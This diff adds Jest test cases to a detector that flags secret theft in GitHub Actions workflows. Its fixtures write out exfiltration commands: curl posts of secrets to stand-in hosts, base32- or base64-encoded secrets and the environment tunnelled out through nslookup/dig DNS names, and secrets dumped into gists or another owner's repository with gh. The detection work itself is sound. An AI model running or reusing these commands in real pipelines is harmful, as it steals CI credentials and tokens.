@@ -413,6 +413,112 @@ describe('gha-secrets-exfiltration', () => {
     expect(dropOwnHostSends(findings, 'other', 'thing').map((f) => f.line)).toEqual([6, 7, 10]);
   });
 
+  it('reports a secret named for a product (MYAPP_TOKEN, ACME_DEPLOY_KEY) sent in a body to a host that carries neither that name nor the repository\'s, high (GhostAction used each repository\'s own secret names)', () => {
+    const sent = `on: push\n${job(`      - run: curl -s -X POST https://api.buildstat-hub.io/v1/collect -d "t=$T"
+        env:
+          T: \${{ secrets.MYAPP_TOKEN }}
+      - run: curl -s https://ingest.telemetry-cdn.dev/c --data '{"k":"\${{ secrets.ACME_DEPLOY_KEY }}"}'
+      - run: curl -s -F "token=\${{ secrets.ZEPHYR_API_TOKEN }}" https://hooks.tint.acme.dev/release
+`)}`;
+    expect(only(sent, 'gha-secrets-exfiltration')).toEqual([
+      ['gha-secrets-exfiltration', 'high', 6],
+      ['gha-secrets-exfiltration', 'high', 9],
+      ['gha-secrets-exfiltration', 'high', 10],
+    ]);
+    const findings = extractWorkflow(sent, '.github/workflows/x.yml').findings ?? [];
+    expect(findings.find((f) => f.line === 6)?.title).toBe('A secret named for another product is sent as data to api.buildstat-hub.io');
+    expect(dropOwnHostSends(findings, 'acme', 'tint').map((f) => f.line)).toEqual([6, 9]);
+  });
+
+  it('reports a secret or the environment written into the name of a DNS lookup, critical; ordinary lookups are not', () => {
+    const sent = `on: push\n${job(`      - run: nslookup "$(echo \${{ secrets.NPM_TOKEN }} | base32 | tr -d = | head -c 60).cache-check.dev"
+      - run: for c in $(env | base64 -w0 | fold -w 60); do dig +short "$c.d.telemetry-ns.net"; done
+      - run: |
+          T=$(echo "$PYPI" | base32 -w0)
+          host "$T.p.ns-relay.io" || true
+        env:
+          PYPI: \${{ secrets.PYPI_API_TOKEN }}
+      - run: dig +short "$K.k.ns-relay.io"
+        env:
+          K: \${{ secrets.DEPLOY_KEY }}
+`)}`;
+    expect(only(sent, 'gha-secrets-exfiltration')).toEqual([
+      ['gha-secrets-exfiltration', 'critical', 6],
+      ['gha-secrets-exfiltration', 'critical', 7],
+      ['gha-secrets-exfiltration', 'critical', 10],
+      ['gha-secrets-exfiltration', 'critical', 13],
+    ]);
+    const normal = `on: push\n${job(`      - run: dig +short "\${{ matrix.service }}.svc.cluster.local"
+      - run: host "$(git rev-parse --short HEAD).preview.acme.dev"
+      - run: nslookup "$NODE.internal.acme.io"
+        env:
+          NODE: \${{ vars.NODE }}
+      - run: dig +short TXT "_acme-challenge.$DOMAIN" @1.1.1.1
+        env:
+          DOMAIN: \${{ secrets.DOMAIN }}
+`)}`;
+    expect(only(normal, 'gha-secrets-exfiltration')).toEqual([]);
+  });
+
+  it('reports secrets put into a gist, written with gh into another owner\'s repository, or the token handed to another host with gh', () => {
+    const sent = `on: push\n${job(`      - run: |
+          echo "\${{ toJSON(secrets) }}" > report.txt
+          gh gist create report.txt -d "build report"
+      - run: env | gh gist create -
+      - run: gh api repos/qqbot9/sink/issues -f title=sync -f body="\${{ secrets.NPM_TOKEN }}"
+        env:
+          GH_TOKEN: \${{ secrets.RELEASE_PAT }}
+      - run: gh issue create -R acme/infra --title rotated --body "$K"
+        env:
+          K: \${{ secrets.DEPLOY_KEY }}
+      - run: gh api /user
+        env:
+          GH_TOKEN: \${{ secrets.GITHUB_TOKEN }}
+          GH_HOST: git.mirror-sync.dev
+`)}`;
+    expect(only(sent, 'gha-secrets-exfiltration')).toEqual([
+      ['gha-secrets-exfiltration', 'critical', 7],
+      ['gha-secrets-exfiltration', 'critical', 9],
+      ['gha-secrets-exfiltration', 'high', 10],
+      ['gha-secrets-exfiltration', 'high', 13],
+      ['gha-secrets-exfiltration', 'high', 16],
+    ]);
+    const findings = extractWorkflow(sent, '.github/workflows/x.yml').findings ?? [];
+    expect(dropOwnHostSends(findings, 'acme', 'tint').filter((f) => f.id === 'gha-secrets-exfiltration').map((f) => f.line)).toEqual([7, 9, 10, 16]);
+  });
+
+  it('is quiet on gh writing ordinary data, with its token as credential, to this repository, a gist of build output, or an Enterprise host', () => {
+    const normal = `on: push\n${job(`      - run: gh api repos/other-org/website/dispatches -f event_type=docs -f client_payload[sha]=$GITHUB_SHA
+        env:
+          GH_TOKEN: \${{ secrets.DOCS_PAT }}
+      - run: gh issue comment "$PR" --repo "\${{ github.repository }}" --body "Deployed \${{ steps.deploy.outputs.url }}"
+      - run: |
+          npm run build > build.log
+          gh gist create build.log --desc "build log"
+          gh release upload "$TAG" dist/*.tgz
+        env:
+          GH_TOKEN: \${{ github.token }}
+      - run: gh api /repos/acme/tint/releases
+        env:
+          GH_TOKEN: \${{ secrets.GHE_TOKEN }}
+          GH_HOST: github.acme-corp.com
+`)}`;
+    expect(only(normal, 'gha-secrets-exfiltration')).toEqual([]);
+  });
+
+  it('is quiet on a product-named secret sent to a host with the product in its name, one whose name is in the secret\'s, or a name whose words are a use or an abbreviation', () => {
+    const normal = `on: push\n${job(`      - run: curl -s -X POST https://api.jelly-cloud.com/1.0/exec -d "token=\${{ secrets.JELLYCLOUD_TOKEN }}" -d "cmd=redeploy"
+      - run: curl -s -F "file=@app.apk" -F "token=\${{ secrets.APKDROP_TOKEN }}" https://upload.apkdrop.io/
+      - run: curl -s -F "token=\${{ secrets.SHARE_LINK_TOKEN }}" -F "file=@dist.zip" https://connect.share.link/api/upload
+      - run: curl -s -d "api_key=\${{ secrets.MAILFOX_API_KEY }}" https://api.mail-fox.net/v3/messages
+      - run: curl -s -d "secret=\${{ secrets.WEBHOOK_SECRET }}" https://ci.buildstat-hub.io/register
+      - run: curl -s -d "token=\${{ secrets.DO_TOKEN }}" https://api.buildstat-hub.io/v2/droplets
+      - run: curl -s -d "client_secret=\${{ secrets.ZEPHYR_CLIENT_SECRET }}" https://id.buildstat-hub.io/oauth/token
+      - run: curl -s -X POST "https://deploy.buildstat-hub.io/hook?token=\${{ secrets.ZEPHYR_DEPLOY_TOKEN }}"
+`)}`;
+    expect(only(normal, 'gha-secrets-exfiltration')).toEqual([]);
+  });
+
   it('is quiet on such a secret in a URL (a deploy hook), to a known service, to a login or token endpoint, without a body, or a secret whose name says what it is for', () => {
     const normal = `on: push\n${job(`      - run: curl -fsS -X POST "https://deploy.buildstat-hub.io/hooks/release?token=\${{ secrets.API_TOKEN }}"
       - run: curl -s -d "token=\${{ secrets.API_TOKEN }}" https://api.github.com/repos/o/r/dispatches
